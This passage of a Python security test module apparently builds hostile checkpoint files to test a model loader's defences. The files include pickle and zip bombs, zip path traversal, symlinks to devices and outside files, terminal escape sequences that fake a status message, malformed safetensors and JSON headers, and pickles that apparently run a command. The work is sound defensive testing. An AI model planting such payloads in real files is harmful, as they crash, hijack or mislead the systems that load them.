        tup(glob("torch.per_tensor_affine"), b"G" + struct.pack(">d", 0.1), num(0)),
        FALSE,
        _HOOKS,
    ),
)
_lying(
    "sparse-tensor-with-wild-indices",
    call(
        "torch._utils._rebuild_sparse_tensor",
        glob("torch.sparse_coo"),
        tup(
            tensor(stored("0", 108, glob("torch.LongStorage")), (1, 4)),
            tensor(stored("1", 4), (4,)),
            ints((2**40,)),
        ),
    ),
)
_lying(
    "allocation-by-numpy",
    call("numpy.core.multiarray._reconstruct", glob("numpy.ndarray"), ints([2**40]), raw(b"b")),
)
_lying("allocation-by-bytearray", call("builtins.bytearray", num(2**40)))
_lying("allocation-by-range", call("builtins.list", call("builtins.range", num(2**40))))
_lying("allocation-by-size", call("torch.zeros", call("torch.Size", ints([2**40]))))


@hostile("legacy-storage-size-lies")
def _(folder, marker):
    home = checkpoint(folder)
    legacy(home / "embedder.pt", state_ops(), sizes={"0": 2**50, "1": -1})
    return home


@hostile("legacy-storage-keys-lie")
def _(folder, marker):
    home = checkpoint(folder)
    keys = dumped(lst(*[text(f"../{i}") for i in range(1000)]))
    legacy(home / "embedder.pt", state_ops(), keys=keys)
    return home


def _valued(name: str, value: float) -> None:
    """A whole checkpoint but for one number."""

    @hostile(f"{name}:zip")
    def _(folder, marker):
        home = checkpoint(folder)
        torch_zip(home / "embedder.pt", dumped(state_ops()), _spoilt(value))
        return home

    @hostile(f"{name}:safetensors")
    def _(folder, marker):
        home = checkpoint(folder, "embedder.safetensors")
        header, data = _safe_parts(_spoilt(value))
        safetensors(home / "embedder.safetensors", header, data)
        return home


def _spoilt(value: float) -> dict[str, bytes]:
    records = storages()
    last = list(records)[-1]
    records[last] = np.full(len(records[last]) // 4, value, np.float32).tobytes()
    return records


_valued("nan", float("nan"))
_valued("infinity", float("inf"))


# --------------------------------------------------------------------- pickles that exhaust


def _bomb(name: str, data: bytes | Callable[[], bytes]) -> None:
    @hostile(f"{name}:bare")
    def _(folder, marker):
        path = folder / "model.pt"
        path.write_bytes(data if isinstance(data, bytes) else data())
        return path

    @hostile(f"{name}:zip")
    def _(folder, marker):
        home = checkpoint(folder)
        content = data if isinstance(data, bytes) else data()
        torch_zip(home / "embedder.pt", content, {})
        return home


# An unpickler that keeps its memo in a list makes one of 4 billion places.
_bomb("memo-index-2-to-32", dumped(num(1), b"r\xff\xff\xff\xff"))
_bomb("memo-index-missing", dumped(b"j\xff\xff\xff\xff"))
_bomb("memo-index-negative", b"I1\np-5\n.")
_bomb("bytes8-of-2-to-60", b"\x80\x04\x8e" + struct.pack("<Q", 2**60) + b"x.")
_bomb("bytearray8-of-2-to-40", b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b"x.")
_bomb("text8-of-2-to-63", b"\x80\x04\x8d" + struct.pack("<Q", 2**63) + b"x.")
_bomb("text-of-4-gigabytes", b"\x80\x02X\xff\xff\xff\xffx.")
_bomb("frame-of-2-to-62", b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"N.")
_bomb("long4-negative-length", b"\x80\x02\x8b\xff\xff\xff\xff.")
# Eight million bits: reading is quick, writing it in decimal digits takes minutes.
_bomb("long4-of-a-megabyte", dumped(b"\x8b" + struct.pack("<i", 2**20) + b"\x7f" * 2**20))
_bomb("long4-as-key", dumped(b"}\x8b" + struct.pack("<i", 2**20) + b"\x7f" * 2**20 + num(1) + b"s"))
_bomb("decimal-of-a-megabyte", b"L" + b"9" * 2**20 + b"L\n.")
_bomb("tuples-100k-deep", dumped(b")" + b"\x85" * 100_000))
_bomb("lists-100k-deep", dumped(b"]" * 100_000 + b"a" * 99_999))
_bomb("dicts-100k-deep", dumped((b"}" + text("x")) * 100_000 + b"N" + b"s" * 100_000))
_bomb("marks-1-million", b"\x80\x02" + b"(" * 10**6 + b"t" * 10**6 + b".")
_bomb("protocol-255", b"\x80\xff}.")
_bomb("no-stop", b"\x80\x02}")
_bomb("empty-stack", b"\x80\x02.")
_bomb("pop-nothing", b"\x80\x020000000.")
_bomb("unknown-opcode", b"\x80\x02\xff\xfe\xfd.")
_bomb("next-buffer", b"\x80\x05\x97\x98.")
_bomb("text-not-utf-8", b"\x80\x02X\x04\x00\x00\x00\xff\xfe\xff\xfe.")
_bomb("global-not-utf-8", b"\x80\x02c\xff\xfe\n\xff\n.")
_bomb("global-without-end", b"\x80\x02c" + b"a" * 10**6)
_bomb("setitems-odd", dumped(b"}(" + text("a") + b"u"))
_bomb("setitem-on-number", dumped(num(1) + text("a") + num(1) + b"s"))
_bomb("key-is-list", dumped(b"}]" + num(1) + b"s"))
_bomb("key-is-nan", dumped(b"}G" + struct.pack(">d", float("nan")) + num(1) + b"s"))


@functools.cache
def _doubling(levels: int = 64) -> Ops:
    """(x, x) of (x, x) of ...: 64 small objects, 2**64 of them when walked or printed."""
    return b")" + b"".join(b"q%ch%c\x86" % (level, level) for level in range(levels))


_bomb("doubling-tuples", lambda: dumped(_doubling()))
_bomb("doubling-tuples-in-dict", lambda: dumped(b"}" + text("weight") + _doubling() + b"s"))
# The hash of a tuple is that of its parts: setting this key never ends.
_bomb("doubling-tuples-as-key", lambda: dumped(b"}" + _doubling() + num(1) + b"s"))
_bomb("doubling-tuples-in-set", lambda: b"\x80\x04\x8f(" + _doubling() + b"\x90.")
_bomb(
    "doubling-shape", lambda: dumped(glob("torch._utils._rebuild_tensor_v2") + _doubling() + b"R")
)


@hostile("dict-in-itself")
def _(folder, marker):
    home = checkpoint(folder)
    torch_zip(home / "embedder.pt", dumped(b"}q\x00" + text("state_dict") + b"h\x00s"), {})
    return home


@hostile("list-in-itself")
def _(folder, marker):
    path = folder / "model.pt"
    path.write_bytes(dumped(b"]q\x00h\x00a"))
    return path


@hostile("hundred-thousand-keys")
def _(folder, marker):
    """Quadratic work on names takes hours here."""
    home = checkpoint(folder)
    one = tensor(stored("0", 108), _SHAPE)
    keys = b"".join(text(f"module.{i:x}.weight") + b"h\x00" for i in range(100_000))
    torch_zip(home / "embedder.pt", dumped(one + b"q\x00" + b"}(" + keys + b"u"))
    return home


@hostile("key-of-a-megabyte")
def _(folder, marker):
    home = checkpoint(folder)
    one = tensor(stored("0", 108), _SHAPE)
    pair = text("a." * 500_000) + one
    torch_zip(home / "embedder.pt", dumped(state_ops(), pair, b"s"))
    return home


@hostile("class-name-of-a-megabyte")
def _(folder, marker):
    home = checkpoint(folder)
    torch_zip(home / "embedder.pt", dumped(call("m" * 10**6 + ".f"), state_ops()))
    return home


ESCAPES = "\x1b]0;owned\x07\x1b[2J\r\nmemscan: whole and safe \u202e\x00"


@hostile("terminal-codes-in-key:zip")
def _(folder, marker):
    """Names from the file reach the terminal: they must not clear it or fake a message."""
    home = checkpoint(folder)
    pair = text(ESCAPES) + tensor(stored("0", 108), _SHAPE)
    torch_zip(home / "embedder.pt", dumped(state_ops(), pair, b"s"))
    return home


@hostile("terminal-codes-in-key:safetensors")
def _(folder, marker):
    home = checkpoint(folder, "embedder.safetensors")
    header, data = _safe_parts()
    header[ESCAPES] = header.pop(FIRST)
    safetensors(home / "embedder.safetensors", header, data)
    return home


@hostile("terminal-codes-in-class")
def _(folder, marker):
    home = checkpoint(folder)
    foreign = text("m" + ESCAPES) + text("f" + ESCAPES) + b"\x93)R"
    torch_zip(home / "embedder.pt", dumped(foreign, state_ops()))
    return home


@hostile("terminal-codes-in-recipe")
def _(folder, marker):
    return checkpoint(folder, ESCAPES.replace("\x00", ""))


# ------------------------------------------------------------------------------- zip archives


def zip_local(name: bytes, data: bytes, size: int, crc: int, method: int, flags: int = 0) -> bytes:
    """Local header of an entry and its bytes."""
    header = struct.pack(
        "<4s5H3I2H", b"PK\3\4", 20, flags, method, 0, 33, crc, len(data), size, len(name), 0
    )
    return header + name + data


def zip_central(
    name: bytes, packed: int, size: int, crc: int, method: int, at: int, flags: int = 0
) -> bytes:
    """Entry of the central directory."""
    return (
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\1\2",
            20,
            20,
            flags,
            method,
            0,
            33,
            crc,
            packed,
            size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            at,
        )
        + name
    )


def zip_end(count: int, length: int, at: int, comment: bytes = b"") -> bytes:
    head = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, length, at, len(comment))
    return head + comment


def raw_zip(path: Path, entries: list[tuple[str, bytes, int, int, int]], flags: int = 0) -> Path:
    """Write entries of (name, bytes as stored, size, crc, method) without any check."""
    body, directory = b"", b""
    for name, data, size, crc, method in entries:
        label = name.encode()
        directory += zip_central(label, len(data), size, crc, method, len(body), flags)
        body += zip_local(label, data, size, crc, method, flags)
    path.write_bytes(body + directory + zip_end(len(entries), len(directory), len(body)))
    return path


@functools.cache
def zeros_deflated(megabytes: int) -> bytes:
    """That many megabytes of zeros as a deflate stream, made without compressing them all."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(b"")
    first = packer.compress(b"\0" * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
    return first * megabytes + packer.flush()


def whole_entries() -> list[tuple[str, bytes, int, int, int]]:
    """The embedder as entries for `raw_zip`."""
    records = {"data.pkl": dumped(state_ops()), "byteorder": b"little", "version": b"3\n"}
    records |= {f"data/{key}": value for key, value in storages().items()}
    return [(f"archive/{k}", v, len(v), zlib.crc32(v), 0) for k, v in records.items()]


@hostile("bomb-in-data-pkl")
def _(folder, marker):
    """Two gigabytes that begin as a pickle would be read at once."""
    home = checkpoint(folder)
    packed = zeros_deflated(2048)
    entries = whole_entries()
    entries[0] = ("archive/data.pkl", packed, 2**31, 0, 8)
    raw_zip(home / "embedder.pt", entries)
    return home


@hostile("bomb-in-data-pkl-hidden")
def _(folder, marker):
    """The same, and the directory says that it is small."""
    home = checkpoint(folder)
    entries = whole_entries()
    entries[0] = ("archive/data.pkl", zeros_deflated(2048), 1000, 0, 8)
    raw_zip(home / "embedder.pt", entries)
    return home


@hostile("bomb-in-storage")
def _(folder, marker):
    home = checkpoint(folder)
    entries = [e for e in whole_entries() if e[0] not in ("archive/data/0", "archive/data.pkl")]
    pickled = dumped(state_ops({FIRST: tensor(stored("0", 2**29), (2**29,))}))
    entries.insert(0, ("archive/data.pkl", pickled, len(pickled), zlib.crc32(pickled), 0))
    entries.append(("archive/data/0", zeros_deflated(2048), 2**31, 0, 8))
    raw_zip(home / "embedder.pt", entries)
    return home


@hostile("bomb-in-unused-record")
def _(folder, marker):
    """No tensor asks for it; whoever verifies or hashes all entries unpacks it."""
    home = checkpoint(folder)
    entries = whole_entries()
    entries.append(("archive/data/99", zeros_deflated(2048), 2**31, 0, 8))
    raw_zip(home / "embedder.pt", entries)
    return home


@hostile("npz-bomb")
def _(folder, marker):
    """An array whose header says 8 GB and which really has 2 of them."""
    path = folder / "volume.npz"
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1024, 1024, 1024), }\n"
    head = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
    start = b"\x00" + struct.pack("<HH", len(head), len(head) ^ 0xFFFF) + head
    size = 2**31 + len(head)
    return raw_zip(path, [("arr_0.npy", start + zeros_deflated(2048), size, 0, 8)])


@hostile("quoted-overlap")
def _(folder, marker):
    """Fifield's bomb: each entry quotes the header of the next, and all share one kernel."""
    home = checkpoint(folder)
    kernel, size = zeros_deflated(16), 16 * 2**20
    plain = b"\0" * size
    crc = zlib.crc32(plain)
    names = [f"archive/data/{i}".encode() for i in range(100)]
    body = zip_local(names[-1], kernel, size, crc, 8)
    packed, spans = kernel, [(len(kernel), size, crc)]
    quoted: list[bytes] = []
    for name in reversed(names[:-1]):
        head = body[: len(body) - len(packed)]
        quoted.insert(0, head)
        packed = b"\x00" + struct.pack("<HH", len(head), len(head) ^ 0xFFFF) + head + packed
        size += len(head)
        # The checksum of the zeros is too dear to compute a hundred times.
        spans.insert(0, (len(packed), size, 0))
        body = zip_local(name, packed, size, 0, 8)
    entries = whole_entries()[:1]
    data = entries[0][1]
    front = zip_local(b"archive/data.pkl", data, len(data), zlib.crc32(data), 0)
    directory = zip_central(b"archive/data.pkl", len(data), len(data), zlib.crc32(data), 0, 0)
    at = len(front)
    for name, (length, full, check) in zip(names, spans, strict=True):
        directory += zip_central(name, length, full, check, 8, at)
        at += 30 + len(name) + 5
    whole = front + body
    end = zip_end(101, len(directory), len(whole))
    (home / "embedder.pt").write_bytes(whole + directory + end)
    return home


@hostile("overlapping-entries")
def _(folder, marker):
    """A thousand names for the same megabyte: a gigabyte for whoever adds them up."""
    home = checkpoint(folder)
    data = b"\0" * 2**20
    pickled = dumped(state_ops())
    body = zip_local(b"archive/data.pkl", pickled, len(pickled), zlib.crc32(pickled), 0)
    at = len(body)
    body += zip_local(b"archive/data/0", data, len(data), zlib.crc32(data), 0)
    directory = zip_central(
        b"archive/data.pkl", len(pickled), len(pickled), zlib.crc32(pickled), 0, 0
    )
    for i in range(1000):
        name = f"archive/data/{i}".encode()
        directory += zip_central(name, len(data), len(data), zlib.crc32(data), 0, at)
    end = zip_end(1001, len(directory), len(body))
    (home / "embedder.pt").write_bytes(body + directory + end)
    return home


@hostile("overlap-of-pickle-and-storage")
def _(folder, marker):
    """A storage that contains the pickle: what was checked as numbers is read as code."""
    home = checkpoint(folder)
    entries = whole_entries()
    body, directory = b"", b""
    for name, data, size, crc, method in entries:
        at = len(body)
        if name == "archive/data/0":
            at, data, size = 0, entries[0][1][:size], size
            crc = zlib.crc32(data)
        else:
            body += zip_local(name.encode(), data, size, crc, method)
        directory += zip_central(name.encode(), len(data), size, crc, method, at)
    end = zip_end(len(entries), len(directory), len(body))
    (home / "embedder.pt").write_bytes(body + directory + end)
    return home


@hostile("forty-thousand-entries")
def _(folder, marker):
    path = folder / "model.pt"
    return raw_zip(path, [(f"a/data/{i}", b"", 0, 0, 0) for i in range(40_000)])


@hostile("local-name-differs")
def _(folder, marker):
    """The directory names one thing, the entry itself another."""
    home = checkpoint(folder)
    path = raw_zip(home / "embedder.pt", whole_entries())
    data = path.read_bytes()
    path.write_bytes(data.replace(b"archive/data/1", b"archive/evil/1", 1))
    return home


@hostile("wrong-checksum")
def _(folder, marker):
    home = checkpoint(folder)
    entries = whole_entries()
    name, data, size, crc, method = entries[3]
    entries[3] = (name, data, size, crc ^ 1, method)
    raw_zip(home / "embedder.pt", entries)
    return home


@hostile("encrypted-entries")
def _(folder, marker):
    home = checkpoint(folder)
    raw_zip(home / "embedder.pt", whole_entries(), flags=1)
    return home


@hostile("unknown-compression")
def _(folder, marker):
    home = checkpoint(folder)
    raw_zip(home / "embedder.pt", [(*entry[:4], 97) for entry in whole_entries()])
    return home


@hostile("directory-offset-lies")
def _(folder, marker):
    home = checkpoint(folder)
    path = raw_zip(home / "embedder.pt", whole_entries())
    data = bytearray(path.read_bytes())
    struct.pack_into("<I", data, len(data) - 6, 0xFFFFFFF0)
    path.write_bytes(data)
    return home


@hostile("entry-count-lies")
def _(folder, marker):
    home = checkpoint(folder)
    path = raw_zip(home / "embedder.pt", whole_entries())
    data = bytearray(path.read_bytes())
    struct.pack_into("<HH", data, len(data) - 14, 2, 2)
    path.write_bytes(data)
    return home


@hostile("zip64-lies")
def _(folder, marker):
    path = folder / "model.pt"
    end64 = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, MAX, MAX, MAX, MAX)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, 4, 1)
    end = struct.pack(
        "<4s4H2IH", b"PK\5\6", 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFF, 2**32 - 1, 2**32 - 1, 0
    )
    path.write_bytes(b"PK\3\4" + end64 + locator + end)
    return path


@hostile("zip64-entry-size")
def _(folder, marker):
    """One entry claims 2**62 bytes by the extra field."""
    path = folder / "model.pt"
    name = b"archive/data.pkl"
    extra = struct.pack("<HHQQ", 1, 16, 2**62, 2**62)
    local = struct.pack(
        "<4s5H3I2H", b"PK\3\4", 45, 0, 0, 0, 33, 0, 2**32 - 1, 2**32 - 1, len(name), len(extra)
    )
    body = local + name + extra + dumped(EMPTY)
    central = struct.pack(
        "<4s6H3I5H2I",
        b"PK\1\2",
        45,
        45,
        0,
        0,
        0,
        33,
        0,
        2**32 - 1,
        2**32 - 1,
        len(name),
        len(extra),
        0,
        0,
        0,
        0,
        0,
    )
    directory = central + name + extra
    path.write_bytes(body + directory + zip_end(1, len(directory), len(body)))
    return path


@hostile("two-directories")
def _(folder, marker):
    """The comment of the archive is the end of another archive."""
    home = checkpoint(folder)
    good = raw_zip(home / "embedder.pt", whole_entries()).read_bytes()
    evil = raw_zip(
        folder / "inner", [("archive/data.pkl", (d := dumped(_system(marker))), len(d), 0, 0)]
    ).read_bytes()
    (folder / "inner").unlink()
    (home / "embedder.pt").write_bytes(good[:-2] + struct.pack("<H", len(evil)) + evil)
    return home


def _named(name: str, inside: Callable[[Path], str], how: Callable[[str], Any]) -> None:
    """A whole torch file with one more entry of an odd name."""

    @how(f"zip-name-{name}")
    def _(folder, marker):
        home = checkpoint(folder)
        extra = {inside(marker): b"owned"}
        torch_zip(home / "embedder.pt", dumped(state_ops()), extra=extra)
        return home


extracted = functools.partial(hostile, naive="extract")
_named("parent", lambda marker: f"archive/../../../{marker.name}", extracted)
_named("absolute", str, extracted)
_named("backslash", lambda marker: f"archive\\..\\..\\..\\{marker.name}", hostile)
_named("drive", lambda marker: f"C:\\{marker.name}", hostile)
# Nothing asks for these, so they may pass, as long as nobody prints them.
harmless = functools.partial(_into, HARMLESS)
_named("escape", lambda marker: f"archive/data/{ESCAPES[:-1]}", harmless)
_named("very-long", lambda marker: "archive/data/" + "a/" * 30_000, harmless)


@hostile("zip-name-with-nul")
def _(folder, marker):
    """Readers in C see `archive/data.pkl`, readers in Python a longer name."""
    home = checkpoint(folder)
    entries = whole_entries()
    data = dumped(_system(marker))
    entries.append(("archive/data.pkl\0.txt", data, len(data), zlib.crc32(data), 0))
    raw_zip(home / "embedder.pt", entries)
    return home


@hostile("zip-with-symlink")
def _(folder, marker):
    home = checkpoint(folder)
    with zipfile.ZipFile(home / "embedder.pt", "w") as archive:
        archive.writestr("archive/data.pkl", dumped(state_ops()))
        for key, value in storages().items():
            link = zipfile.ZipInfo(f"archive/data/{key}")
            if key == "0":
                link.create_system, link.external_attr = 3, 0o120777 << 16
                value = b"/dev/zero"
            archive.writestr(link, value)
        archive.writestr("archive/version", "3\n")
    return home


def _quietly(archive: zipfile.ZipFile, name: str, data: bytes) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr(name, data)


# ------------------------------------------------------------------------------- safetensors


def _safe_parts(records: dict[str, bytes] | None = None) -> tuple[dict[str, Any], bytes]:
    """Header and data of the embedder."""
    header: dict[str, Any] = {}
    data = b""
    values = list((records or storages()).values())
    for (key, value), content in zip(embedder_state().items(), values, strict=True):
        span = [len(data), len(data) + len(content)]
        header[key] = {"dtype": "F32", "shape": list(value.shape), "data_offsets": span}
        data += content
    return header, data


def safetensors(path: Path, header: Any, data: bytes, length: int | None = None) -> Path:
    """Write a header (as JSON unless it is bytes) and data, unchecked."""
    head = header if isinstance(header, bytes) else json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(head) if length is None else length) + head + data)
    return path


def _unsafe(name: str, spoil: Callable[[dict[str, Any], bytes], Any]) -> None:
    """A whole safetensors checkpoint, spoilt: returns header, data and perhaps a length."""

    @hostile(f"safetensors-{name}")
    def _(folder, marker):
        home = checkpoint(folder, "embedder.safetensors")
        safetensors(home / "embedder.safetensors", *spoil(*_safe_parts()))
        return home


def _entry(**changes: Any) -> Callable[[dict[str, Any], bytes], Any]:
    return lambda header, data: (header | {FIRST: header[FIRST] | changes}, data)


_unsafe("header-longer-than-file", lambda h, d: (h, d, 10**7))
_unsafe("header-of-2-to-63", lambda h, d: (h, d, 2**63))
_unsafe("header-of-2-to-64", lambda h, d: (h, d, 2**64 - 1))
_unsafe("header-empty", lambda h, d: (b"", d))
_unsafe("header-no-json", lambda h, d: (b"{'weight': 1}", d))
_unsafe("header-is-pickle", lambda h, d: (dumped(call("os.getcwd")), d))
_unsafe("header-is-list", lambda h, d: ([h], d))
_unsafe("header-not-utf-8", lambda h, d: (b'{"\xff\xfe": 1}', d))
_unsafe("header-100k-deep", lambda h, d: (b'{"a":' + b"[" * 10**5 + b"]" * 10**5 + b"}", d))
_unsafe("header-objects-100k-deep", lambda h, d: (b'{"a":' * 10**5 + b"1" + b"}" * 10**5, d))
_unsafe("header-long-number", lambda h, d: (b'{"a": ' + b"9" * 10**5 + b"}", d))
_unsafe("header-100k-keys", lambda h, d: ({f"k{i}": h[FIRST] for i in range(40_000)}, d))
_unsafe(
    "duplicate-key",
    lambda h, d: (
        json.dumps(h)[:-1].encode()
        + f', "{FIRST}": '.encode()
        + json.dumps(h["dense.1.weight"]).encode()
        + b"}",
        d,
    ),
)
_unsafe("offsets-overlap", lambda h, d: _entry(data_offsets=[400, 832])(h, d))
_unsafe("offsets-beyond-file", _entry(data_offsets=[10**9, 10**9 + 432]))
_unsafe("offsets-negative", _entry(data_offsets=[-432, 0]))
_unsafe("offsets-reversed", _entry(data_offsets=[432, 0]))
_unsafe("offsets-float", _entry(data_offsets=[0.0, 432.0]))
_unsafe("offsets-three", _entry(data_offsets=[0, 432, 432]))
_unsafe("offsets-of-2-to-63", _entry(data_offsets=[2**63, 2**63 + 432]))
_unsafe("shape-2-to-40", _entry(shape=[2**40]))
_unsafe("shape-overflows", _entry(shape=[2**32, 2**32, 27]))
_unsafe("shape-negative", _entry(shape=[-4, -1, 3, 3, 3]))
_unsafe("shape-of-booleans", _entry(shape=[True, 108]))
_unsafe("shape-of-text", _entry(shape=["4", "1", "3", "3", "3"]))
_unsafe("shape-missing", lambda h, d: (h | {FIRST: {"dtype": "F32"}}, d))
_unsafe("dtype-unknown", _entry(dtype="PICKLE"))
_unsafe("dtype-too-wide", _entry(dtype="F64"))
_unsafe("dtype-is-list", _entry(dtype=["F32"]))
_unsafe("entry-is-text", lambda h, d: (h | {FIRST: "F32"}, d))
_unsafe("metadata-is-nested", lambda h, d: ({"__metadata__": {"a": {"b": 1}}} | h, d))
_unsafe("data-too-short", lambda h, d: (h, d[:-4]))
_unsafe("data-too-long", lambda h, d: (h, d + b"\x80\x02."))
_unsafe("hole-in-data", lambda h, d: ({k: v for k, v in h.items() if k != "dense.1.weight"}, d))
_unsafe("quantised", _entry(dtype="I8", data_offsets=[0, 108]))


# ------------------------------------------------- truncated, mislabelled and empty files


def _truncated(name: str, whole: Callable[[Path], Path], suffix: str) -> None:
    for percent in (1, 10, 50, 99):

        @hostile(f"truncated-{name}-at-{percent}")
        def _(folder, marker, percent=percent):
            home = checkpoint(folder, f"embedder{suffix}")
            path = whole(home / f"embedder{suffix}")
            data = path.read_bytes()
            path.write_bytes(data[: len(data) * percent // 100])
            return home


_truncated("zip", lambda p: torch_zip(p, dumped(state_ops())), ".pt")
_truncated("legacy", lambda p: legacy(p, state_ops()), ".pt")
_truncated("safetensors", lambda p: safetensors(p, *_safe_parts()), ".safetensors")


def _content(name: str, filename: str, data: bytes) -> None:
    @hostile(f"{name}:alone")
    def _(folder, marker):
        path = folder / filename
        path.write_bytes(data)
        return path

    @hostile(f"{name}:checkpoint")
    def _(folder, marker):
        home = checkpoint(folder, filename)
        (home / filename).write_bytes(data)
        return home


_PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(
    ">I4sIIBBBBB", 13, b"IHDR", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0
)
_LOGIN = (
    b"<!DOCTYPE html>\n<html><head><title>Sign in - Drive</title></head><body>...</body></html>\n"
)
_POINTER = (
    b"version https://git-lfs.github.com/spec/v1\n"
    b"oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 765482113\n"
)
_content("png-named-pt", "model.pt", _PNG)
_content("login-page-named-pth", "model.pth", _LOGIN)
_content("lfs-pointer-named-pt", "model.pt", _POINTER)
_content("lfs-pointer-named-safetensors", "model.safetensors", _POINTER)
_content("empty-pt", "model.pt", b"")
_content("empty-safetensors", "model.safetensors", b"")
_content("zeros-named-pt", "model.pt", b"\0" * 4096)
_content("one-byte-named-pt", "model.pt", b"\x80")
_content("seven-bytes-named-safetensors", "model.safetensors", b"\0" * 7)
_content("zip-without-entries", "model.pt", zip_end(0, 0, 0))
_content("gzip-bomb-named-pt", "model.pt", b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zeros_deflated(64))
_content("hdf5-named-pt", "model.pt", b"\x89HDF\r\n\x1a\n" + b"\0" * 512)
_content("script-named-pt", "model.pt", b"#!/bin/sh\ntouch owned\n")
_content("magic-then-nothing", "model.pt", MAGIC)
_content("other-magic-number", "model.pt", pickle.dumps(1234567890123, protocol=2) + PROTOCOL)


# --------------------------------------------------------------- what a path may really be


@hostile("directory-named-pt")
def _(folder, marker):
    path = folder / "model.pt"
    path.mkdir()
    return path


@hostile("directory-as-weights")
def _(folder, marker):
    home = checkpoint(folder)
    (home / "embedder.pt").mkdir()
    return home


def _special(name: str, make: Callable[[Path], None]) -> None:
    """A FIFO, device or link under several names: opening it blocks, reading it never ends."""
    for filename in ("model.pt", "model.safetensors", "model.npy", "recipe.json"):

        @hostile(f"{name}-named-{filename}", posix=True)
        def _(folder, marker, filename=filename):
            make(folder / filename)
            return folder / filename

    @hostile(f"{name}-as-weights", posix=True)
    def _(folder, marker):
        home = checkpoint(folder)
        make(home / "embedder.pt")
        return home

    @hostile(f"{name}-as-recipe", posix=True)
    def _(folder, marker):
        home = folder / "checkpoint"
        home.mkdir()
        make(home / "recipe.json")
        return home


_special("fifo", lambda path: os.mkfifo(path))
_special("endless-device", lambda path: path.symlink_to("/dev/zero"))
_special("link-to-itself", lambda path: path.symlink_to(path.name))


@hostile("dangling-link", posix=True)
def _(folder, marker):
    path = folder / "model.pt"
    path.symlink_to(marker)
    return path


@hostile("weights-linked-outside", posix=True)
def _(folder, marker):
    """A downloaded folder must not make the program read files from elsewhere."""
    outside = folder / "outside.pt"
    torch_zip(outside, dumped(state_ops()))
    home = checkpoint(folder)
    (home / "embedder.pt").symlink_to(outside)
    return home


@hostile("folder-linked-outside", posix=True)
def _(folder, marker):
    (folder / "outside").mkdir()
    torch_zip(folder / "outside" / "embedder.pt", dumped(state_ops()))
    home = checkpoint(folder, "models/embedder.pt")
    (home / "models").symlink_to(folder / "outside")
    return home


@hostile("folder-in-itself", posix=True)
def _(folder, marker):
    """A walk that follows links never ends."""
    home = folder / "volumes"
    (home / "a").mkdir(parents=True)
    (home / "a" / "b").symlink_to(home)
    (home / "a" / "c").symlink_to(home)
    return home


# ----------------------------------------------------------------------------- recipe.json


def _recipe(name: str, value: Callable[[Path], Any]) -> None:
    """A recipe beside good weights of both names."""

    @hostile(f"recipe-{name}")
    def _(folder, marker):
        home = folder / "checkpoint"
        home.mkdir()
        torch_zip(folder / "outside.pt", dumped(state_ops()))
        torch_zip(home / "embedder.pt", dumped(state_ops()))
        content = value(folder)
        if not isinstance(content, bytes):
            content = json.dumps(content).encode()
        (home / "recipe.json").write_bytes(content)
        return home


def _files(name: str) -> dict[str, Any]:
    return recipe({"embedder": name})


_recipe("path-to-parent", lambda _: _files("../outside.pt"))
_recipe("path-absolute", lambda folder: _files(str(folder / "outside.pt")))
_recipe("path-through-folder", lambda _: _files("a/../../outside.pt"))
_recipe("path-with-nul", lambda _: _files("embedder.pt\0"))
_recipe("path-with-surrogate", lambda _: _files("\ud800.pt"))
_recipe("path-too-long", lambda _: _files("a" * 10**5))
_recipe("path-empty", lambda _: _files(""))
_recipe("path-is-itself", lambda _: _files("recipe.json"))
_recipe("path-is-address", lambda _: _files("https://example.org/model.pt"))
_recipe("path-is-home", lambda _: _files("~/model.pt"))
_recipe("without-files", lambda _: recipe() | {"files": {}})
_recipe("files-of-other-parts", lambda _: recipe({"denoiser": "embedder.pt"}))
_recipe("huge-network", lambda _: recipe(n_hiddens=2**30))
_recipe("huge-vector", lambda _: recipe(dim=2**40))
_recipe("number-beyond-64-bits", lambda _: recipe(n_hiddens=10**1000))
_recipe("huge-volume", lambda _: recipe(working_shape=[2**20] * 3, input_shape=[2**20] * 3))
_recipe("downsample-huge", lambda _: recipe(downsample=[2**40] * 3))
_recipe("negative", lambda _: recipe(n_hiddens=-1))
_recipe("digits", lambda _: b'{"format": ' + b"9" * 10**5 + b"}")
_recipe("100k-deep", lambda _: b'{"a":' * 10**5 + b"1" + b"}" * 10**5)
_recipe("lists-100k-deep", lambda _: b"[" * 10**5)
_recipe("not-utf-8", lambda _: b'{"kind": "\xff\xfe"}')
_recipe("is-list", lambda _: [1, 2, 3])
_recipe("is-pickle", lambda _: dumped(call("os.getcwd")))
_recipe("of-the-future", lambda _: recipe(format=2**70))
_recipe("unknown-keys", lambda _: recipe() | {f"k{i}": i for i in range(50_000)})
_recipe("long-key", lambda _: recipe() | {"k" * 10**6: 1})


def _model_recipe(name: str, **changes: Any) -> None:
    """The recipe of an autoencoder whose arguments ask for too much, or for code."""

    @hostile(f"recipe-autoencoder-{name}")
    def _(folder, marker):
        from napari_memscan.checkpoints.recipe import AutoencoderRecipe
        from napari_memscan.volumes.preprocessing import MinMax, Preprocessing

        home = folder / "checkpoint"
        home.mkdir()
        made = AutoencoderRecipe(
            autoencoder=dict(AUTOENCODER) | changes,
            preprocessing=Preprocessing(shape=(16, 16, 16), intensity=MinMax()),
        )
        (home / "recipe.json").write_text(json.dumps(made.model_dump(mode="json")))
        header, data = _safe_parts()
        safetensors(home / "autoencoder.safetensors", header, data)
        return home


AUTOENCODER: dict[str, Any] = {
    "spatial_dims": 3,
    "in_channels": 1,
    "out_channels": 1,
    "latent_channels": 3,
    "channels": [8, 8],
